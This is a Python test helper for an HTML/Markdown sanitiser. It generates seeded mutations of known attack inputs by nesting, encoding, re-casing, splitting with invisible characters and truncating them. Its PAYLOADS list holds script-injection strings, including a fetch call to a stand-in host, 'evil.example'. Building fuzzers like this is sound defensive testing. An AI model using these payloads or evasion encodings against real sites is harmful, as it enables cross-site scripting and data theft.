"""New attacks from old: combined, nested, re-cased, encoded, split, truncated; the same for the same seed."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator, Sequence

from tests.sanitiser.forms import Form

LONGEST = 1_500
INVISIBLE = (
    "\t\n\r\f\x00\x01\x1b\x7f\x85\xa0\xad\u061c\u180e\u200b\u200c\u200d\u200e\u2028\u202e\u2060\u2066\ufeff"
)
FRAMES = """
<p>{}</p>|<em>{}</em>|<a href="{}">x</a>|<a href='{}'>x</a>|<svg>{}</svg>|<math><mtext>{}</mtext></math>
<table><td>{}</td></table>|<select>{}</select>|<noscript>{}</noscript>|<style>{}</style>|<title>{}</title>
<textarea>{}</textarea>|<template>{}</template>|<!--{}-->|<!{}>|<?{}>|<![CDATA[{}]]>|<{}>|</{}>|&{};|"{}"|'{}'
<img src=x title="{}">|<iframe srcdoc="{}"></iframe>|<form><button>{}</button></form>|<script>"{}"</script>
[{}](https://example.org/)|[x]({})|[x](<{}>)|[x](https://example.org/ "{}")|![{}](x)|![x]({})|`{}`|``` {} ```
> {}|- {}|1. {}|*{}*|**{}**|_{}_|\\{}|# {}|    {}|[x][y] [y]: {}|{}{}|{} {}
""".replace("\n", "|").strip("|").split("|")  # fmt: skip
PAYLOADS = ("canary=1", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')", "\\u0061lert(1)", "1")

Rule = Callable[[random.Random, str, Sequence[Form]], str]


def combine(dice: random.Random, text: str, forms: Sequence[Form]) -> str:
    """Another form before it, behind it or in the midst of it."""
    other = dice.choice(forms).source
    at = dice.choice([0, len(text), dice.randrange(len(text) + 1)])
    return text[:at] + other + text[at:]


def nest(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    return dice.choice(FRAMES).replace("{}", text)


def recase(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    return "".join(c.swapcase() if c.isascii() and dice.random() < 0.4 else c for c in text)


def encode(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    """Some characters as entities, percent or escapes, or as letters that look alike."""
    spellings: Sequence[Callable[[int], str]] = (
        *(lambda c: f"&#{c};", lambda c: f"&#x{c:x};", lambda c: f"&#{c:08}", lambda c: f"&#X{c:X}"),
        *(
            lambda c: f"%{c % 256:02x}",
            lambda c: f"\\u{c:04x}",
            lambda c: chr(c + 0xFEE0),
            lambda c: f"\\{chr(c)}",
        ),
    )
    spell, share = dice.choice(spellings), dice.choice([0.05, 0.3, 1])
    return "".join(spell(ord(c)) if "!" <= c <= "~" and dice.random() < share else c for c in text)


def split(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    """Invisible characters at one to four places."""
    for _time in range(dice.randint(1, 4)):
        at = dice.randrange(len(text) + 1)
        text = text[:at] + dice.choice(INVISIBLE) + text[at:]
    return text


def truncate(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    at = dice.randrange(len(text) + 1)
    return dice.choice([text[:at], text[at:], text[:at] + text[at + 1 :]])


def requote(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    old, new = dice.choice(["'", '"', " "]), dice.choice(["'", '"', "`", "", "/", "\t", "\f", "\u201d"])
    return text.replace(old, new)


def repeat(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    """One of its pieces of markup several times over."""
    pieces = re.findall(r"[<>/&;:\"'()\[\]!`*-]+|\w+", text)
    piece = dice.choice(pieces) if pieces else text
    return text.replace(piece, piece * dice.randint(2, 5), 1)


def repay(dice: random.Random, text: str, _: Sequence[Form]) -> str:
    return text.replace("alert(1)", dice.choice(PAYLOADS))


RULES: Sequence[Rule] = (combine, nest, recase, encode, split, truncate, requote, repeat, repay)


def mutations(forms: Sequence[Form], number: int, seed: int = 1) -> Iterator[Form]:
    """`number` forms, each made of one of `forms` by one to four rules."""
    dice = random.Random(seed)
    small = [form for form in forms if len(form.source) <= LONGEST]
    for serial in range(1, number + 1):
        form = dice.choice(small)
        text, made = form.source, []
        for _ in range(dice.randint(1, 4)):
            rule = dice.choice(RULES)
            text = rule(dice, text, small)[:LONGEST]
            made.append(rule.__name__)
        yield Form("mutations", f"{serial} ({form}; {', '.join(made)})", text)
